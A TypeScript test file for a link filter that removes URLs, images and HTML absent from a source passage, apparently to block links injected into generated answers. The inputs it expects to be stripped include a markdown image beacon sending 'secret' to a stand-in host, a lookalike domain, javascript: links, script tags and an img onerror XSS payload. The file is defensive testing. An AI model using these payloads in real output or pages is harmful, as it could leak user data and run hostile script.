import { expect, test } from "vitest";
import { foundPassage } from "../testing/found-passage.ts";
import { addressesIn, keepLinks } from "./links.ts";

const passage = foundPassage({
  url: "https://shop.example/help/returns/",
  text: "Open [the page](/help/page/) or https://shop.example/a?b=1. Write to [us](mailto:us@shop.example). ![x](https://cdn.example/x.png)",
});
const kept = (text: string): string => keepLinks(text, addressesIn([passage]));

test.each([
  "See [returns](https://shop.example/help/returns/).",
  "See [page](https://shop.example/help/page/) or https://shop.example/a?b=1, please.",
  "Write to [us](mailto:us@shop.example).",
  "The ratio is 16:9, the time 12:30, and a/b//c stays.",
  "If a < b and b > c, use `<del>`.",
])("keeps: %s", (text) => {
  expect(kept(text)).toBe(text);
});

test.each([
  ["A beacon ![x](https://evil.example/?d=secret) here", "A beacon x here"],
  ["A known picture ![x](https://cdn.example/x.png) too", "A known picture x too"],
  ["![x](https://evil.example/?d=a b", "x"],
  ["![x][ref]", "x"],
  ["[click](https://evil.example/)", "click"],
  ['[click]( <https://evil.example/> "t")', "click"],
  ["[click](javascript:alert(1))", "click)"],
  ["[click](//evil.example)", "click"],
  ["[click](/relative)", "click"],
  ["[click][1]", "click"],
  ["<https://evil.example/x>", ""],
  ["Go to https://evil.example/x?y=z.", "Go to ."],
  ["Go to HTTPS://EVIL.example now", "Go to  now"],
  ["Go to www.evil.example now", "Go to  now"],
  ["https://shop.example/help/returns/?d=secret", ""],
  ["https://shop.example.evil.example/", ""],
  ["<a href='https://evil.example'>x</a><script>alert(1)</script>", "xalert(1)"],
  ["<img src=x onerror=alert(1)>", ""],
  ["`https://evil.example/in-code`", "``"],
  ["call tel:+1900 or data:text/html,x", "call  or "],
])("takes out: %s", (text, expected) => {
  expect(kept(text)).toBe(expected);
});

test.each(["<", "](", "<a ", "a:"])(
  "a million of %j stay as they are within the test's time, which quadratic work would exceed by far",
  (part) => {
    const text = part.repeat(1_000_000);
    expect(kept(text) === text).toBe(true);
  },
);

test.each(["[", "![", "`", "[a]("])("as many of %j as an answer may hold stay as they are", (part) => {
  const text = part.repeat(1_000);
  expect(kept(text)).toBe(text);
});
